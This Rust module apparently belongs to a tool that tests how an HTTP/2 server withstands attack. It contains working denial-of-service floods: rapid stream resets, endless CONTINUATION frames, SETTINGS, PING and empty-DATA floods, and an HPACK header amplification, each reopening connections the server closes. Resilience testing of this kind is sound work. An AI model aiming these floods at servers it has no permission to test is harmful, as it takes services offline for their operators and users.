//! Floods of HTTP/2 frames, as fast as the server reads them. A connection that the server closes is opened again.

use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::TcpStream;
use tokio::task::JoinSet;
use tokio::time::{Instant, timeout_at};

use super::attacker::{AttackTarget, Outcome};
use super::frames::{
    Api, CONTINUATION, DATA, END_HEADERS, END_STREAM, HEADERS, INITIAL_WINDOW_SIZE, PING, SETTINGS,
    frame, reset,
};
use crate::fault::Fault;

/// Number of connections to each API.
const CONNECTIONS_PER_API: u32 = 2;
/// Number of frames or requests in each write.
const FRAMES_PER_WRITE: u32 = 100;
/// Initial flow-control window of a stream (RFC 9113, section 6.9.2).
const DEFAULT_WINDOW: u32 = 65_535;
/// Largest id of a stream.
const LAST_STREAM: u32 = (1 << 31) - 1;

/// Frames of a flood on one connection.
#[derive(Clone, Copy)]
struct Flood {
    /// Frames that start the connection.
    start: fn(&Api) -> Vec<u8>,
    /// Frames that are then written repeatedly, for a stream with this id.
    repeated: fn(&Api, u32) -> Vec<u8>,
    /// True if each repetition needs a new stream.
    uses_streams: bool,
}

pub(super) async fn send_resets(target: &AttackTarget<'_>) -> Result<Outcome, Fault> {
    let repeated = |api: &Api, stream| [api.request(stream), reset(stream)].concat();
    flood(target, of_streams(repeated)).await
}

pub(super) async fn send_continuations(target: &AttackTarget<'_>) -> Result<Outcome, Fault> {
    let start = |api: &Api| frame(HEADERS, 0, 1, &api.headers);
    // A field `a: b` that HPACK does not index.
    let repeated = |_: &Api, _| frame(CONTINUATION, 0, 1, b"\x00\x01a\x01b");
    flood(target, of_frames(start, repeated)).await
}

pub(super) async fn send_settings(target: &AttackTarget<'_>) -> Result<Outcome, Fault> {
    let repeated = |_: &Api, _| {
        let value = DEFAULT_WINDOW.to_be_bytes();
        let setting = [&INITIAL_WINDOW_SIZE.to_be_bytes()[..], &value].concat();
        frame(SETTINGS, 0, 0, &setting)
    };
    flood(target, of_frames(|_| Vec::new(), repeated)).await
}

pub(super) async fn send_pings(target: &AttackTarget<'_>) -> Result<Outcome, Fault> {
    let repeated = |_: &Api, _| frame(PING, 0, 0, &[0; 8]);
    flood(target, of_frames(|_| Vec::new(), repeated)).await
}

pub(super) async fn send_empty_data(target: &AttackTarget<'_>) -> Result<Outcome, Fault> {
    let start = |api: &Api| frame(HEADERS, END_HEADERS, 1, &api.headers);
    let repeated = |_: &Api, _| frame(DATA, 0, 1, &[]);
    flood(target, of_frames(start, repeated)).await
}

/// Sends requests whose headers refer to a long field of HPACK's dynamic table many times, in one byte each.
pub(super) async fn send_large_headers(target: &AttackTarget<'_>) -> Result<Outcome, Fault> {
    let repeated = |api: &Api, stream| {
        // `x-a` with a value of 3,969 bytes (127 + 2 + 30 × 128), which HPACK indexes as entry 62.
        let field = [&b"\x40\x03x-a\x7f\x82\x1e"[..], &[b'a'; 3_969]].concat();
        let headers = [&api.headers[..], &field, &[0xbe; 10_000]].concat();
        frame(HEADERS, END_HEADERS | END_STREAM, stream, &headers)
    };
    flood(target, of_streams(repeated)).await
}

fn of_frames(start: fn(&Api) -> Vec<u8>, repeated: fn(&Api, u32) -> Vec<u8>) -> Flood {
    Flood {
        start,
        repeated,
        uses_streams: false,
    }
}

fn of_streams(repeated: fn(&Api, u32) -> Vec<u8>) -> Flood {
    Flood {
        start: |_| Vec::new(),
        repeated,
        uses_streams: true,
    }
}

async fn flood(target: &AttackTarget<'_>, flood: Flood) -> Result<Outcome, Fault> {
    let end = target.start().await?;
    let mut tasks = JoinSet::new();
    for api in Api::both(target) {
        for _ in 0..CONNECTIONS_PER_API {
            let api = api.clone();
            tasks.spawn(async move { flood.run_until(&api, end).await });
        }
    }
    let mut outcome = Outcome::default();
    while let Some(of_task) = tasks.join_next().await {
        let (frames, closed) = of_task.expect("no attacker panics");
        outcome.add(
            if flood.uses_streams {
                "requests"
            } else {
                "frames"
            },
            frames,
        );
        outcome.add("connections closed", closed);
    }
    Ok(outcome)
}

impl Flood {
    /// Returns the number of repetitions, and of connections that the server closed.
    async fn run_until(&self, api: &Api, end: Instant) -> (u64, u64) {
        let (mut sent, mut closed) = (0, 0);
        while Instant::now() < end {
            let Ok(Ok(socket)) = timeout_at(end, api.open(DEFAULT_WINDOW)).await else {
                continue;
            };
            if timeout_at(end, self.write(api, socket, &mut sent))
                .await
                .is_ok()
            {
                closed += 1;
            }
        }
        (sent, closed)
    }

    /// Writes until the server closes the connection.
    async fn write(&self, api: &Api, socket: TcpStream, sent: &mut u64) {
        let (mut reading, mut writing) = socket.into_split();
        let drain = async {
            let mut piece = vec![0; 64 * 1024];
            while let Ok(1..) = reading.read(&mut piece).await {}
        };
        let write = async {
            writing.write_all(&(self.start)(api)).await?;
            let constant = self.repetitions(api, 1);
            let mut stream = 1;
            while stream < LAST_STREAM - 2 * FRAMES_PER_WRITE {
                if self.uses_streams {
                    writing.write_all(&self.repetitions(api, stream)).await?;
                    stream += 2 * FRAMES_PER_WRITE;
                } else {
                    writing.write_all(&constant).await?;
                }
                *sent += u64::from(FRAMES_PER_WRITE);
            }
            Ok::<_, std::io::Error>(())
        };
        tokio::select! {
            () = drain => {}
            _ = write => {}
        }
    }

    fn repetitions(&self, api: &Api, first: u32) -> Vec<u8> {
        let streams = (0..FRAMES_PER_WRITE).map(|number| first + 2 * number);
        streams
            .flat_map(|stream| (self.repeated)(api, stream))
            .collect()
    }
}
